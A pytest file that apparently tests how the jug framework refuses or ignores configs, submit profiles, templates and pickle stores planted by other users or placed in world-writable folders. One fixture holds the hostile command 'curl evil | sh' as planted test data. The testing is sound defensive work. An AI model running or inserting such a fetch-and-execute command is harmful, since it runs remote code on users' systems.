"""Planted files (issue 11, item 2): config, profiles, templates and stores of other users.

Tests run as root, so "another user" is uid 65534 (nobody); shared folders are world-writable
sticky folders under tmp_path, like /tmp or /scratch.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from support import ok, run_jug, write_jugfile

from jug.config.trust import search_upwards
from jug.hpc import profiles as submit_profiles

NOBODY = 65534
ONE = """
from jug import TaskGenerator

@TaskGenerator
def one():
    return 1

x = one()
"""

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to chown files")


def _shared(tmp_path: Path) -> Path:
    """A /tmp-like folder: every user may write to it (sticky bit)."""
    d = tmp_path / "shared"
    d.mkdir()
    d.chmod(0o1777)
    return d


def _project(parent: Path) -> tuple[Path, Path]:
    proj = parent / "proj"
    proj.mkdir(mode=0o755)
    return proj, write_jugfile(proj, ONE)


def test_jugrc_in_shared_parent_is_ignored_and_search_stops(tmp_path: Path) -> None:
    shared = _shared(tmp_path)
    evil = tmp_path / "evil.jugdata"
    (shared / "jugrc").write_text(f"jugdir: {evil}\n")
    proj, jf = _project(shared)
    p = ok("execute", jf)
    assert "ignoring config file" in p.stderr and "every user can write to" in p.stderr
    assert (proj / "jugfile.jugdata").is_dir() and not evil.exists()


def test_jugrc_owned_by_other_user_or_world_writable_is_ignored(tmp_path: Path) -> None:
    proj, jf = _project(tmp_path)
    rc = proj / "jugrc"
    rc.write_text(f"jugdir: {tmp_path / 'evil.jugdata'}\n")
    os.chown(rc, NOBODY, NOBODY)
    p = ok("execute", jf)
    assert "owned by another user" in p.stderr and "uid 65534" in p.stderr
    assert not (tmp_path / "evil.jugdata").exists()
    os.chown(rc, 0, 0)
    rc.chmod(0o666)
    p = ok("status", jf)
    assert "every user can write to it" in p.stderr
    rc.chmod(0o644)  # the same file, trusted now: it is used and nothing is said
    p = ok("execute", jf)
    assert (tmp_path / "evil.jugdata").is_dir() and "warning" not in p.stderr


def test_trusted_uids_lets_a_colleague_config_in(tmp_path: Path) -> None:
    proj, jf = _project(tmp_path)
    rc = proj / "jugrc"
    rc.write_text(f"jugdir: {tmp_path / 'team.jugdata'}\n")
    os.chown(rc, NOBODY, NOBODY)
    ok("execute", jf, env={"JUG_TRUSTED_UIDS": str(NOBODY)})
    assert (tmp_path / "team.jugdata").is_dir()


@pytest.mark.parametrize("how", ["other-owner", "world-writable"])
def test_planted_store_is_refused(tmp_path: Path, how: str) -> None:
    proj, jf = _project(tmp_path)
    store = proj / "jugfile.jugdata"
    store.mkdir()
    if how == "other-owner":
        os.chown(store, NOBODY, NOBODY)
    else:
        store.chmod(0o1777)
    for cmd in ("execute", "status", "shell"):
        p = run_jug(cmd, jf, input="")
        assert p.returncode != 0 and "Traceback" not in p.stderr, (cmd, p.stderr)
        assert "refusing to open the jugdir" in p.stderr and "pickles" in p.stderr
    assert not (store / "results").exists()


def test_planted_submit_profile_is_ignored(tmp_path: Path) -> None:
    shared = _shared(tmp_path)
    (shared / "jug-submit.yaml").write_text("prologue: ['curl evil | sh']\n")
    proj, jf = _project(shared)
    assert submit_profiles.profile_files(str(jf)) == []
    own = proj / "jug-submit.yaml"
    own.write_text("workers: 3\n")
    assert submit_profiles.profile_files(str(jf)) == [own]
    os.chown(own, NOBODY, NOBODY)
    assert submit_profiles.profile_files(str(jf)) == []


def test_planted_template_folder_is_ignored(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    shared = _shared(tmp_path)
    (shared / "jug_templates").mkdir()
    proj, _jf = _project(shared)
    found = search_upwards(proj, ["jug_templates"], "template folder", is_wanted=Path.is_dir)
    assert found is None and "ignoring template folder" in capsys.readouterr().err
    mine = proj / "jug_templates"
    mine.mkdir()
    assert search_upwards(proj, ["jug_templates"], "template folder", Path.is_dir) == mine
    os.chown(mine, NOBODY, NOBODY)
    assert search_upwards(proj, ["jug_templates"], "template folder", Path.is_dir) is None
    assert "owned by another user" in capsys.readouterr().err


def test_readme_warns_about_untrusted_stores() -> None:
    text = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    assert "pickles" in text and "untrusted" in text
